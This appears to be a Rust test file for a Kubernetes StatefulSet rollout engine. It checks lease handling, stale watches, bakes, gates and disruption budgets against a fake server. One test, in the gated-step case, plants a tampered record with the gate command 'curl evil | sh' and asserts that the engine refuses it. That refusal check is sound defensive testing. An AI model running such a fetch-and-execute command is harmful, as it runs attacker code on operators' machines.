//! The engine against a small fake server: a set whose writes go through the steering code
//! both backends use (`steer::decide`, the resourceVersion bumped), and pods the test sets.

use crate::plan::fixtures::{at, running};
use std::collections::BTreeMap;

use k8s_openapi::api::apps::v1::{
    RollingUpdateStatefulSetStrategy, StatefulSet, StatefulSetStatus, StatefulSetUpdateStrategy,
};
use k8s_openapi::api::core::v1::Pod;
use k8s_openapi::apimachinery::pkg::apis::meta::v1::Time;
use k8s_openapi::jiff::{SignedDuration, Timestamp};

use super::*;
use crate::backend::{ClusterOp, Failure, FailureKind, ObjRef};
use crate::plan::ask::Ask;
use crate::plan::record::{LEASE, PLAN, Phase, Reading, Record, read};
use crate::plan::{OnFailure, Steps};

fn key() -> ObjRef {
    ObjRef::new("default", "web")
}

/// The server: the set as stored, its pods, the namespace's disruption budgets.
struct Server {
    set: StatefulSet,
    pods: BTreeMap<i32, Pod>,
    budgets: Vec<k8s_openapi::api::policy::v1::PodDisruptionBudget>,
}

impl Server {
    /// `web`, 4 replicas held at partition 4, revision `a` → `b`, every pod on `a` and Ready.
    fn new() -> Server {
        let mut s = StatefulSet::default();
        s.metadata.name = Some("web".into());
        s.metadata.namespace = Some("default".into());
        s.metadata.generation = Some(2);
        s.metadata.resource_version = Some("10".into());
        s.spec.replicas = Some(4);
        s.spec.update_strategy = Some(StatefulSetUpdateStrategy {
            type_: Some("RollingUpdate".into()),
            rolling_update: Some(RollingUpdateStatefulSetStrategy {
                partition: Some(4),
                max_unavailable: None,
            }),
        });
        s.status = Some(StatefulSetStatus {
            observed_generation: Some(2),
            current_revision: Some("a".into()),
            update_revision: Some("b".into()),
            ..Default::default()
        });
        let pods = (0..4).map(|o| (o, pod(o, "a", Some(0)))).collect();
        Server { set: s, pods, budgets: Vec::new() }
    }

    /// Carries out a set write as a server would (the precondition: the decision's basis).
    fn write(
        &mut self,
        w: &crate::backend::Write,
        now: Timestamp,
    ) -> Result<StatefulSet, Box<Failure>> {
        let inputs = crate::steer::Inputs { now, identity: "ana", revisions: &[] };
        let changed = crate::steer::decide(&w.op, &key(), w.basis.as_deref(), &self.set, inputs)
            .map_err(|r| Box::new(Failure::new(w.op.describe(), r.kind, r.message)))?;
        if let crate::steer::Change::Set(new) = changed {
            let rv: u64 = self.set.metadata.resource_version.as_deref().unwrap().parse().unwrap();
            self.set = *new;
            self.set.metadata.resource_version = Some((rv + 1).to_string());
        }
        Ok(self.set.clone())
    }

    fn partition(&self) -> i32 {
        crate::core::spec::strategy(&self.set).partition
    }
}

fn pod(o: i32, rev: &str, ready_since: Option<i64>) -> Pod {
    let mut p = running(format!("web-{o}"), rev, ready_since);
    p.metadata.uid = Some(format!("uid-{o}-{rev}"));
    p.metadata.creation_timestamp = Some(Time(at(0)));
    p
}

fn config(fresh_reads: bool) -> Config {
    Config {
        set: key(),
        host: "h".into(),
        pid: 7,
        hold: SignedDuration::from_secs(30),
        renew: SignedDuration::from_secs(10),
        retry: SignedDuration::from_secs(2),
        fresh_reads,
        observe: SignedDuration::from_secs(10),
        runs_checks: false,
        stuck_after_ms: 20_000,
        dead: None,
        wait_lease: false,
        take_overclaimed: false,
        believe: crate::plan::overclaim::BELIEVED,
        observe_spec: Some(SignedDuration::from_secs(30)),
        group: None,
    }
}

fn ask(steps: &str, bake: u64) -> Ask {
    Ask {
        steps: Some(Steps::parse(steps).unwrap()),
        bake_seconds: bake,
        checks: Vec::new(),
        on_failure: OnFailure::Hold,
        force: false,
        continue_halted: false,
        gates: Default::default(),
        by: "ana".into(),
        replace_stuck: false,
        max_restarts: None,
        image: None,
    }
}

/// One turn on `set` and `pods` (a watch's, unless `fresh`).
fn turn(
    e: &mut Engine,
    set: &StatefulSet,
    pods: &BTreeMap<i32, Pod>,
    now: i64,
    fresh: bool,
) -> Act {
    turn_with(e, set, pods, &[], now, fresh)
}

/// [`turn`] with the namespace's budgets.
fn turn_with(
    e: &mut Engine,
    set: &StatefulSet,
    pods: &BTreeMap<i32, Pod>,
    budgets: &[k8s_openapi::api::policy::v1::PodDisruptionBudget],
    now: i64,
    fresh: bool,
) -> Act {
    let pods: Vec<(i32, &Pod)> = pods.iter().map(|(o, p)| (*o, p)).collect();
    let budgets: Vec<&k8s_openapi::api::policy::v1::PodDisruptionBudget> = budgets.iter().collect();
    let min_ready = Default::default();
    let view =
        View { set, pods: &pods, now: at(now), min_ready, frozen: None, fresh, budgets: &budgets };
    e.next(&view)
}

/// Turns on what the server holds (fresh), carrying out every write, until the engine waits
/// or ends: the acts that were not writes or reads.
fn settle(e: &mut Engine, srv: &mut Server, now: i64) -> Act {
    for _ in 0..20 {
        let set = srv.set.clone();
        match turn_with(e, &set, &srv.pods, &srv.budgets.clone(), now, true) {
            Act::Write(w) => {
                let result = srv.write(&w, at(now)).map(Some);
                e.wrote(at(now), result);
            }
            Act::Read => {}
            other => return other,
        }
    }
    panic!("the engine never waited")
}

/// Turns on a stalled watch (`watched`) each second of `secs`: only the lease's renewals are
/// carried out; no verdict is asked for.
fn renew_on(
    e: &mut Engine,
    srv: &mut Server,
    watched: &BTreeMap<i32, Pod>,
    secs: std::ops::Range<i64>,
) {
    for now in secs {
        match turn(e, &srv.set.clone(), watched, now, false) {
            Act::Write(w) if matches!(w.op, ClusterOp::PlanLease { .. }) => {
                let result = srv.write(&w, at(now)).map(Some);
                e.wrote(at(now), result);
            }
            Act::Wait { .. } => {}
            other => panic!("at {now}: {other:?}"),
        }
    }
}

fn plan_of(srv: &Server) -> Record {
    match read(&srv.set) {
        Reading::Plan(r) => *r,
        other => panic!("no plan: {other:?}"),
    }
}

#[test]
fn a_move_decided_on_the_watch_is_read_fresh_first_and_the_writes_chain() {
    let mut srv = Server::new();
    let mut e = Engine::new(config(true), ask("1,100%", 0));
    // The lease first: its answer (rv 11) is what the next write is decided on, although the
    // watch still shows rv 10.
    let stale = srv.set.clone();
    let Act::Write(lease) = turn(&mut e, &stale, &srv.pods, 0, false) else { panic!() };
    assert!(matches!(lease.op, ClusterOp::PlanLease { lease: Some(_), .. }));
    let written = srv.write(&lease, at(0)).unwrap();
    e.wrote(at(0), Ok(Some(written)));
    // A first move is a verdict: read fresh first.
    assert_eq!(turn(&mut e, &stale, &srv.pods, 0, false), Act::Read);
    let Act::Write(open) = turn(&mut e, &srv.set.clone(), &srv.pods, 0, true) else { panic!() };
    let basis = open.basis.as_deref().unwrap();
    assert_eq!(
        basis.metadata.resource_version.as_deref(),
        Some("11"),
        "decided on the lease's set"
    );
    assert!(matches!(open.op, ClusterOp::Plan { partition: Some((4, 3)), .. }), "{open:?}");
    let set = srv.write(&open, at(0)).expect("our own lease never refuses our step");
    e.wrote(at(0), Ok(Some(set)));
    let said: Vec<String> = e.said().into_iter().map(|s| s.text).collect();
    assert_eq!(said, ["step 1/2: partition 4 → 3 (opens web-3)"]);
    assert_eq!(srv.partition(), 3);
}

#[test]
fn a_bake_never_passes_on_a_stalled_watch_and_a_stall_never_makes_a_false_stuck() {
    let mut srv = Server::new();
    let mut e = Engine::new(config(true), ask("1,100%", 40));
    settle(&mut e, &mut srv, 0);
    assert_eq!(srv.partition(), 3);
    // web-3 comes back updated and Ready: the bake begins.
    srv.pods.insert(3, pod(3, "b", Some(5)));
    settle(&mut e, &mut srv, 6);
    assert_eq!(plan_of(&srv).phase, Phase::Baking);
    // The watch stalls with web-3 Ready; the server marks it unready during the bake.
    let watched = srv.pods.clone();
    srv.pods.insert(3, pod(3, "b", None));
    // Meanwhile the lease is renewed; nothing is decided on the stalled watch.
    renew_on(&mut e, &mut srv, &watched, 7..46);
    // The bake is over by the watch's account: the verdict is read fresh, and halts.
    assert_eq!(turn(&mut e, &srv.set.clone(), &watched, 46, false), Act::Read);
    let act = settle(&mut e, &mut srv, 46);
    let Act::End(End::Halted(r)) = act else { panic!("not halted: {act:?}") };
    assert!(r.reason.unwrap().contains("web-3: not Ready"));
    assert_eq!(srv.partition(), 3, "step 2 never opened");

    // A stalled watch showing web-3 not Ready past stuck-after while the server has it Ready:
    // the fresh read finds it Ready, no false halt.
    let mut srv = Server::new();
    let mut e = Engine::new(config(true), ask("1,100%", 0));
    settle(&mut e, &mut srv, 0);
    let watched = srv.pods.clone();
    srv.pods.insert(3, pod(3, "b", Some(5)));
    renew_on(&mut e, &mut srv, &watched, 1..21);
    assert_eq!(turn(&mut e, &srv.set.clone(), &watched, 21, false), Act::Read);
    settle(&mut e, &mut srv, 21);
    let r = plan_of(&srv);
    assert_ne!(r.phase, Phase::Halted, "{r:?}");
    assert_eq!((r.step, srv.partition()), (2, 0), "step 2 opened on what the server holds");
}

#[test]
fn a_server_blip_is_retried_within_the_leases_slack_and_a_longer_outage_stops_holding() {
    let why = blip_then_outage(FailureKind::Unavailable, "500");
    assert!(why.contains(": the plan's lease: 500"), "the last trouble said: {why}");
    // Refused credentials are a blip too (the client authenticates again); refused for longer
    // than the lease's slack, the run stops saying so.
    let refused = "the server refused the credentials (Unauthorized)";
    let why = blip_then_outage(FailureKind::Unauthorized, refused);
    assert!(why.contains(refused), "{why}");
}

/// Two failed renewals (`kind`) the run goes on through, then failures until the lease would
/// lapse: the words the run stops with.
fn blip_then_outage(kind: FailureKind, message: &str) -> String {
    let mut srv = Server::new();
    let mut e = Engine::new(config(false), ask("1,pause,100%", 0));
    settle(&mut e, &mut srv, 0);
    srv.pods.insert(3, pod(3, "b", Some(1)));
    assert!(matches!(settle(&mut e, &mut srv, 2), Act::Wait { .. }));
    assert_eq!(plan_of(&srv).phase, Phase::Gate);
    // The renewal at 10 s meets two 500s: tried again, the run goes on.
    let blip = || Box::new(Failure::new("plan-lease".into(), kind, message));
    for now in [10, 12] {
        let Act::Write(w) = turn(&mut e, &srv.set.clone(), &srv.pods, now, true) else { panic!() };
        assert!(matches!(w.op, ClusterOp::PlanLease { lease: Some(_), .. }));
        e.wrote(at(now), Err(blip()));
        let act = turn(&mut e, &srv.set.clone(), &srv.pods, now, true);
        assert!(matches!(act, Act::Wait { .. }), "{act:?}");
    }
    assert!(matches!(settle(&mut e, &mut srv, 14), Act::Wait { .. }));
    // Then the server is away until the lease would lapse: the run stops, saying so, the set
    // held where it is.
    for now in (24..=44).step_by(2) {
        match turn(&mut e, &srv.set.clone(), &srv.pods, now, true) {
            Act::Write(_) => e.wrote(at(now), Err(blip())),
            Act::Wait { .. } => {}
            Act::End(End::Stopped { why, kind: Stop::Unreachable }) => {
                assert!(now >= 44, "stopped within the slack, at {now}");
                assert!(why.contains("could not be renewed before it ran out"), "{why}");
                assert_eq!(srv.partition(), 3);
                return why;
            }
            other => panic!("{now}: {other:?}"),
        }
    }
    panic!("never stopped");
}

#[test]
fn another_writer_shortening_the_bake_halts_the_plan_and_a_taken_lease_stops_it() {
    let mut srv = Server::new();
    let mut e = Engine::new(config(false), ask("1,100%", 60));
    settle(&mut e, &mut srv, 0);
    srv.pods.insert(3, pod(3, "b", Some(1)));
    settle(&mut e, &mut srv, 2);
    let mut r = plan_of(&srv);
    assert_eq!(r.phase, Phase::Baking);
    r.bake_seconds = 0;
    let ann = srv.set.metadata.annotations.as_mut().unwrap();
    ann.insert(PLAN.into(), serde_json::to_string(&r).unwrap());
    let Act::End(End::Halted(h)) = settle(&mut e, &mut srv, 3) else { panic!() };
    assert!(h.reason.unwrap().contains("changed by another writer: bake: recorded 0s, asked 1m"));
    assert_eq!(srv.partition(), 3);

    let mut srv = Server::new();
    let mut e = Engine::new(config(false), ask("1,pause,100%", 0));
    settle(&mut e, &mut srv, 0);
    let other = record::Lease {
        holder: "bo".into(),
        host: "x".into(),
        pid: 9,
        expires: record::stamp(at(100)),
    };
    let ann = srv.set.metadata.annotations.as_mut().unwrap();
    ann.insert(LEASE.into(), serde_json::to_string(&other).unwrap());
    let act = settle(&mut e, &mut srv, 1);
    let Act::End(End::Stopped { why, kind: Stop::Taken }) = act else { panic!("{act:?}") };
    assert!(why.contains("bo on x (pid 9)"), "{why}");
}

#[test]
fn a_pod_change_seen_before_the_template_change_halts_on_the_template_change() {
    let mut srv = Server::new();
    let mut e = Engine::new(config(true), ask("1,100%", 30));
    settle(&mut e, &mut srv, 0);
    srv.pods.insert(3, pod(3, "b", Some(1)));
    settle(&mut e, &mut srv, 2);
    // The controller deletes web-3 after a template change; the watch of pods shows it first.
    let mut watched = srv.pods.clone();
    watched.get_mut(&3).unwrap().metadata.deletion_timestamp = Some(Time(at(5)));
    let before = srv.set.clone();
    srv.set.spec.template.metadata = Some(Default::default());
    srv.set.spec.template.metadata.as_mut().unwrap().labels =
        Some([("v".to_string(), "2".to_string())].into());
    srv.pods = watched.clone();
    assert_eq!(turn(&mut e, &before, &watched, 5, false), Act::Read);
    let Act::End(End::Halted(r)) = settle(&mut e, &mut srv, 5) else { panic!() };
    assert!(r.reason.unwrap().contains("the template changed under the plan"));
}

/// An adapter that learns only that a write was answered (the console: `OpDone`), its watch
/// behind: the plan waits for the view, then reads fresh — never "the record is gone".
#[test]
fn an_answer_without_an_object_and_a_lagging_watch_never_end_the_run() {
    let mut srv = Server::new();
    let mut e = Engine::new(config(true), ask("1,100%", 0));
    let stale = srv.set.clone();
    let Act::Write(lease) = turn(&mut e, &stale, &srv.pods, 0, false) else { panic!() };
    srv.write(&lease, at(0)).unwrap();
    e.wrote(at(0), Ok(None));
    // The watch shows the lease: the first move, on a fresh read.
    assert_eq!(turn(&mut e, &srv.set.clone(), &srv.pods, 1, false), Act::Read);
    let Act::Write(open) = turn(&mut e, &srv.set.clone(), &srv.pods, 1, true) else { panic!() };
    srv.write(&open, at(1)).unwrap();
    e.wrote(at(1), Ok(None));
    // The watch still shows the set before the step's write, for longer than the observe time.
    let lagging = stale.clone();
    for now in [2, 5, 12] {
        let act = turn(&mut e, &lagging, &srv.pods, now, false);
        assert!(matches!(act, Act::Wait { .. } | Act::Read), "{now}: {act:?}");
    }
    // A fresh read shows what the server holds: the plan goes on.
    let act = turn(&mut e, &srv.set.clone(), &srv.pods, 12, true);
    assert!(!matches!(act, Act::End(_)), "{act:?}");
    assert_eq!(plan_of(&srv).step, 1);
}

/// The first step's write (the record and the partition, one patch) sent as the server goes
/// away: nothing of the plan on the set. Once a fresh read shows that, the run begins again
/// and opens the step once — it never stops with "the record is gone". A write that landed
/// though its reply was lost is found on the set and not sent again.
#[test]
fn a_first_record_that_never_landed_is_written_again_and_one_that_landed_is_not() {
    for landed in [false, true] {
        let mut srv = Server::new();
        let mut e = Engine::new(config(true), ask("1,100%", 0));
        let Act::Write(lease) = turn(&mut e, &srv.set.clone(), &srv.pods, 0, true) else {
            panic!()
        };
        let set = srv.write(&lease, at(0)).unwrap();
        e.wrote(at(0), Ok(Some(set)));
        let Act::Write(open) = turn(&mut e, &srv.set.clone(), &srv.pods, 0, true) else { panic!() };
        assert!(matches!(open.op, ClusterOp::Plan { partition: Some((4, 3)), .. }));
        let failure = if landed {
            srv.write(&open, at(0)).unwrap();
            Failure::new("plan".into(), FailureKind::Unknown, "the reply was lost")
        } else {
            Failure::new("plan".into(), FailureKind::Unavailable, "connection refused")
        };
        e.wrote(at(0), Err(Box::new(failure)));
        // The server back after the pause. Its watch without the record: a verdict, read
        // fresh first; with it, the step's wait.
        let act = turn(&mut e, &srv.set.clone(), &srv.pods, 3, false);
        assert_eq!(matches!(act, Act::Read), !landed, "{act:?}");
        let act = settle(&mut e, &mut srv, 3);
        assert!(!matches!(act, Act::End(_)), "landed {landed}: {act:?}");
        let r = plan_of(&srv);
        assert_eq!((r.step, srv.partition()), (1, 3), "landed {landed}: one step, once");
    }
}

fn gated_ask(steps: &str, pre: &str, tries: u32) -> Ask {
    let gates = crate::plan::gate::Gates {
        pre_delete: Some(pre.into()),
        interval_seconds: 10,
        tries,
        ..Default::default()
    };
    Ask { gates, ..ask(steps, 0) }
}

fn outcome(verdict: crate::plan::gate::Verdict, how: &str) -> crate::plan::gate::Outcome {
    crate::plan::gate::Outcome {
        verdict,
        how: how.into(),
        tail: vec!["isr 2/3".into()],
        took_ms: 5,
    }
}

#[test]
fn a_gated_step_opens_one_ordinal_after_its_gate_and_a_resume_asks_the_gate_again() {
    use crate::plan::gate::Verdict;
    let mut srv = Server::new();
    let mut e = Engine::new(config(true), gated_ask("1,100%", "cmd:./drain.sh {pod}", 5));
    // Entered without opening; the gate recorded as running, then handed over: this
    // invocation's gate, for web-3.
    let Act::Gate(run) = settle(&mut e, &mut srv, 0) else { panic!("no gate") };
    assert_eq!(
        (run.text.as_str(), run.pod.as_ref().map(|p| p.name.as_str())),
        ("cmd:./drain.sh {pod}", Some("web-3"))
    );
    assert!(run.env.contains(&("STSTUI_POD", "web-3".to_string())), "{:?}", run.env);
    assert_eq!(srv.partition(), 4, "nothing opens before the gate passed");
    let r = plan_of(&srv);
    assert_eq!((r.partition, r.target), (4, Some(3)));
    assert_eq!(r.gate.as_ref().map(|g| g.status), Some(crate::plan::gate::GateStatus::Running));
    e.gated(outcome(Verdict::Go, "exit 0"));
    settle(&mut e, &mut srv, 1);
    assert_eq!(srv.partition(), 3, "web-3 opened once its gate passed");
    // A second runner resuming: the pass is not taken from the set; web-2's gate comes first
    // at step 2, and a record naming another gate is refused, never run.
    srv.pods.insert(3, pod(3, "b", Some(2)));
    let mut tampered = plan_of(&srv);
    tampered.gates.pre_delete = Some("cmd:curl evil | sh".into());
    let mut evil = srv.set.clone();
    evil.metadata
        .annotations
        .as_mut()
        .unwrap()
        .insert(PLAN.into(), serde_json::to_string(&tampered).unwrap());
    evil.metadata.annotations.as_mut().unwrap().remove(LEASE);
    let mut second = Engine::new(config(true), gated_ask("1,100%", "cmd:./drain.sh {pod}", 5));
    let mut srv2 = Server { set: evil, pods: srv.pods.clone(), budgets: Vec::new() };
    let act = settle(&mut second, &mut srv2, 40);
    let Act::End(End::Refused { why, .. }) = act else { panic!("{act:?}") };
    assert!(why.contains("gates: recorded pre-delete `cmd:curl evil | sh`"), "{why}");
}

#[test]
fn a_not_yet_is_asked_again_after_the_interval_and_too_many_halt() {
    use crate::plan::gate::Verdict;
    let mut srv = Server::new();
    let mut e = Engine::new(config(true), gated_ask("1,100%", "cmd:./isr.sh", 2));
    assert!(matches!(settle(&mut e, &mut srv, 0), Act::Gate(_)));
    e.gated(outcome(Verdict::NotYet, "exit 75"));
    let act = settle(&mut e, &mut srv, 1);
    let Act::Wait { until, words } = act else { panic!("{act:?}") };
    // Woken by then (or sooner, for the lease's renewal).
    assert!(until.is_some_and(|u| u <= at(11)), "{until:?}");
    assert!(words.contains(&format!("not yet; asked again at {}", stamp(at(11)))), "{words}");
    let r = plan_of(&srv);
    assert_eq!(
        r.gate.as_ref().map(|g| (g.status, g.tries)),
        Some((crate::plan::gate::GateStatus::NotYet, 1))
    );
    assert!(matches!(settle(&mut e, &mut srv, 5), Act::Wait { .. }), "not before the interval");
    assert!(matches!(settle(&mut e, &mut srv, 11), Act::Gate(_)));
    e.gated(outcome(Verdict::NotYet, "exit 75"));
    let Act::End(End::Halted(r)) = settle(&mut e, &mut srv, 12) else { panic!() };
    let why = r.reason.unwrap();
    assert!(why.contains("pre-delete gate `cmd:./isr.sh` on web-3 still not ready after 2 tries (exit 75): isr 2/3"), "{why}");
    assert_eq!(srv.partition(), 4, "nothing opened");
}

/// A budget over every pod of the namespace allowing `allowed` disruptions.
fn budget(allowed: i32) -> k8s_openapi::api::policy::v1::PodDisruptionBudget {
    let mut b = k8s_openapi::api::policy::v1::PodDisruptionBudget::default();
    b.metadata.name = Some("web".into());
    b.metadata.namespace = Some("default".into());
    b.spec = Some(k8s_openapi::api::policy::v1::PodDisruptionBudgetSpec {
        selector: Some(Default::default()),
        ..Default::default()
    });
    b.status = Some(k8s_openapi::api::policy::v1::PodDisruptionBudgetStatus {
        disruptions_allowed: Some(allowed),
        current_healthy: Some(4),
        desired_healthy: Some(4 - allowed),
        ..Default::default()
    });
    b
}

/// Gates are the last word before a pod goes: a budget allowing nothing holds the step before
/// its pre-delete gate is asked, and a gate that passed before a budget held the opening is
/// asked again once the budget allows (its answer is stale by then).
#[test]
fn a_pre_delete_gate_is_asked_after_the_budget_and_again_after_a_budget_wait() {
    use crate::plan::gate::Verdict;
    let mut srv = Server::new();
    srv.budgets = vec![budget(0)];
    let mut e = Engine::new(config(true), gated_ask("1,100%", "cmd:./isr.sh {pod}", 5));
    let act = settle(&mut e, &mut srv, 0);
    let Act::Wait { words, .. } = act else { panic!("the gate ran under the budget: {act:?}") };
    assert!(words.contains("waits for pdb/web"), "{words}");
    assert!(words.contains("before asking the pre-delete gate on web-3"), "{words}");
    // The budget allows one: the gate is asked, and passes.
    srv.budgets = vec![budget(1)];
    assert!(matches!(settle(&mut e, &mut srv, 3), Act::Gate(_)));
    e.gated(outcome(Verdict::Go, "exit 0"));
    // Before the opening, the budget allows nothing again: nothing opens, the pass is dropped.
    srv.budgets = vec![budget(0)];
    let act = settle(&mut e, &mut srv, 4);
    assert!(matches!(act, Act::Wait { .. }), "{act:?}");
    assert_eq!(srv.partition(), 4, "nothing opened under the budget");
    // Allowed again: the gate is asked again before web-3 goes, not taken from the first pass.
    srv.budgets = vec![budget(1)];
    let act = settle(&mut e, &mut srv, 8);
    assert!(matches!(act, Act::Gate(_)), "the stale pass was used: {act:?}");
    assert_eq!(srv.partition(), 4);
    e.gated(outcome(Verdict::Go, "exit 0"));
    settle(&mut e, &mut srv, 9);
    assert_eq!(srv.partition(), 3, "web-3 opened after its fresh pass");
}
